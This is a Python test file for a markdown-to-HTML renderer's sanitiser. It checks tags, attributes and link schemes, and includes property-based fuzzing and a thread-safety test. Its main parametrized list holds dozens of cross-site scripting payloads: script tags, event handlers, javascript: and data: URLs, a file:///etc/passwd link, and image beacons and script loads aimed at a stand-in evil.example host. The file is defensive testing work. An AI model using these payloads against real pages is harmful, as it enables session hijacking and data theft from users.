"""What a model or a person writes can style an answer and do nothing else."""

from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.core.markdown import TAGS, NumberLink, render_markdown

ALLOWED = {
    "a": {"href", "title", "class", "rel"},
    "div": {"class", "role", "aria-label", "tabindex"},
    "ol": {"start"},
    "th": {"class", "scope"},
    "td": {"class"},
}


class Reader(HTMLParser):
    """The tags and attributes as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.depth = 0
        self.oddities: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.depth += tag not in {"br", "hr"}

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_comment(self, data: str) -> None:
        self.oddities.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_safe(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader(html)
    assert not reader.oddities
    assert reader.depth == 0, "every tag that opens closes"
    for tag, attributes in reader.elements:
        assert tag in TAGS, tag
        assert set(attributes) <= ALLOWED.get(tag, set()), (tag, attributes)
        if tag == "a":
            # A link to an address that no browser could open loses it, and leads nowhere.
            href = attributes.get("href")
            if attributes.get("class") == "fact":
                assert (href or "").startswith("#fact-")
                assert "rel" not in attributes
            elif href is not None:
                parts = urlsplit(href)
                assert parts.scheme in {"http", "https"}
                assert parts.hostname
                assert "@" not in parts.netloc
                assert attributes["rel"] == "noopener noreferrer nofollow"
    return reader.elements


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
        "<style>*{background:url(//evil.example)}</style>",
        "<form action=/admin/><button>x</button></form>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<details open ontoggle=alert(1)>x</details>",
        "<!--><script>alert(1)</script-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php alert(1) ?>",
        "<p style='position:fixed'>x</p>",
        "<div class='table-scroll' id='composer'>x</div>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](/admin/logout/)",
        "[x](//evil.example/)",
        "[x](\\\\evil.example)",
        "[x](http:evil.example)",
        "[x](http:///evil.example)",
        "[x](https://good.example@evil.example/)",
        "[x](http://[)",
        "[x](http://1.2.3.4:99999/)",
        "[x](http://256.1.1.1/)",
        "[x](http://xn--)",
        "[x](#composer)",
        "[x](?next=//evil.example)",
        "[x]()",
        "<javascript:alert(1)>",
        "<mailto:alice@example.com>",
        "[x]: javascript:alert(1)\n\n[x]",
        '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
        "[x](https://a.example/\"onmouseover=alert(1))",
        "![x](https://evil.example/pixel.gif?secret)",
        "![<img src=x onerror=alert(1)>](x)",
        "![x][p]\n\n[p]: https://evil.example/pixel.gif",
        "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
        "```<script>alert(1)</script>\nx\n```",
        '```" onmouseover="alert(1)\nx\n```',
        "`<script>alert(1)</script>`",
        "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
        "# <script>alert(1)</script>",
        "AAPL<script>alert(1)</script> closed at 1.25",
        "\x00<script\x00>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
)  # fmt: skip
def test_a_payload_comes_out_as_text(payload: str) -> None:
    for text in (payload, f"- {payload}", f"> {payload}", f"**{payload}**"):
        elements = assert_safe(render_markdown(text))
        links = [attributes["href"] for tag, attributes in elements if tag == "a" and "href" in attributes]
        assert all(link and link.startswith("https://a.example") for link in links)


@pytest.mark.parametrize(
    "href", ["https://example.com/a?b=1&c=2", "http://example.com", "https://example.com:8443/x#y"]
)
def test_an_absolute_link_stays(href: str) -> None:
    [(_, attributes)] = [element for element in assert_safe(render_markdown(f"[x]({href})")) if element[0] == "a"]
    assert attributes["href"] == href


@pytest.mark.parametrize(
    "href", ["javascript:alert(1)", "#", "", "/x", "https://example.com", '#a" onclick="x', "# a", "#1\n", "#a\n"]
)
def test_a_fact_link_leads_nowhere_but_into_the_page(href: str) -> None:
    with pytest.raises(ValueError, match="no fragment"):
        NumberLink(text="1", href=href, title="x")


def test_the_tooltip_of_a_fact_is_only_text() -> None:
    title = '"><script>alert(1)</script><a onclick="x'
    html = render_markdown("430.47", links=[NumberLink(text="430.47", href="#fact-1", title=title)])
    assert [(tag, attributes.get("title")) for tag, attributes in assert_safe(html)] == [("p", None), ("a", title)]


PIECES = st.sampled_from(
    [
        "<", ">", '"', "'", "`", "```\n", "[", "](", ")", "!", "\n", "\n\n", "* ", "- ", "1. ", "|", "|---|---|\n",
        "**", "_", "~~", "# ", "> ", "&", "&#60;", "&quot;", "\\", "    ", "\t", "\x00", "\u2028", "<!--", "-->",
        "<script>", "</script>", "<img src=x onerror=alert(1)>", "<svg onload=x>", "</p>", "</a>", "<a href='x'>",
        "javascript:alert(1)", "https://a.example/", "//b.example", "data:text/html,x", "onclick=x", " \"t\" ",
        "1.25", "430.47", "-", "%", "a", " ", "[x]: ", "]", "<https://a.example>",
    ]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(
    st.lists(PIECES | st.text(max_size=3), max_size=40).map("".join),
    st.lists(st.tuples(st.sampled_from(["1.25", "430.47", "a", "<", '"', "]("]), st.text(max_size=8)), max_size=6),
)
def test_nothing_outside_the_list_ever_comes_out(text: str, facts: list[tuple[str, str]]) -> None:
    links = [NumberLink(text=printed, href=f"#fact-{n}", title=title) for n, (printed, title) in enumerate(facts)]
    assert_safe(render_markdown(text, links=links))


def test_threads_share_one_parser_and_one_sanitiser() -> None:
    texts = [f"**{n}** [x](https://a.example/{n}) <b>\n\n| a |\n|---|\n| {n} |" for n in range(100)]
    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(render_markdown, texts)) == [render_markdown(text) for text in texts]
